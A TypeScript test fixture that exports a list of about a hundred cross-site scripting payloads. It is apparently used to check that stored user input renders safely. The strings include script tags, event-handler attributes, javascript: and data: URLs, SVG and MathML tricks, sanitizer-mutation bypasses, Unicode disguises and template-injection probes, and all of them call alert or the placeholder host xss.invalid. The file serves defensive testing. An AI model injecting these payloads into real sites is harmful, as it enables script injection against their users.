// A hundred ways to be run instead of shown. Each, were it run, calls alert or asks xss.invalid for something.
// oxlint-disable no-script-url -- such addresses are what is tried here

const tags = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//xss.invalid/1></script>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<script type=module>alert(1)</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<base href=//xss.invalid/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//xss.invalid/a.css>",
];

const handlers = [
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror=alert`1`>",
  "<img/src/onerror=alert(1)>",
  "<IMG SRC=x ONERROR=&#97;lert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  "` onfocus=alert(1) autofocus `",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<a href=x onclick=alert(1)>x</a>",
  "<form><button formaction=javascript:alert(1)>x",
  "<div onpointerover=alert(1)>x</div>",
  "<p style=animation-name:x onanimationstart=alert(1)>",
  "<dialog open onclose=alert(1)>",
];

const foreign = [
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math href=javascript:alert(1)>x</math>",
];

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "javascript://xss.invalid/%0aalert(1)",
  "javascript&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://xss.invalid/1",
  'https://xss.invalid/"onmouseover=alert(1)//',
  "https://xss.invalid/<script>alert(1)</script>",
  "http://a@xss.invalid:80/'><svg onload=alert(1)>",
  "//xss.invalid/x.js",
];

const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
];

const disguises = [
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  "\uFEFF<script>alert(1)</script>",
  "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
  "<img src=x onerror\u2003=alert(1)>",
  "\u2028alert(1)\u2029",
  "ʺ><img src=x onerror=alert(1)>",
  "<ſcript>alert(1)</ſcript>",
];

const styles = [
  "<style>@import'//xss.invalid/a.css';</style>",
  "<div style=background:url(//xss.invalid/b)>",
  "expression(alert(1))",
  "</style><style>*{background:url(//xss.invalid/c)}",
];

const scripts = [
  "\u0024{alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "';alert(1)//",
  "\\';alert(1)//",
  "__proto__",
  "constructor",
  "[x](javascript:alert(1))",
  '![x](x"onerror="alert(1))',
  "#<img src=x onerror=alert(1)>;",
  '{"__html":"<img src=x onerror=alert(1)>"}',
];

/** The stored-XSS set of a hundred payloads (`quality.md`, issue 2 Show 5). */
export const payloads: readonly string[] = [
  ...tags,
  ...handlers,
  ...foreign,
  ...addresses,
  ...mutations,
  ...disguises,
  ...styles,
  ...scripts,
];
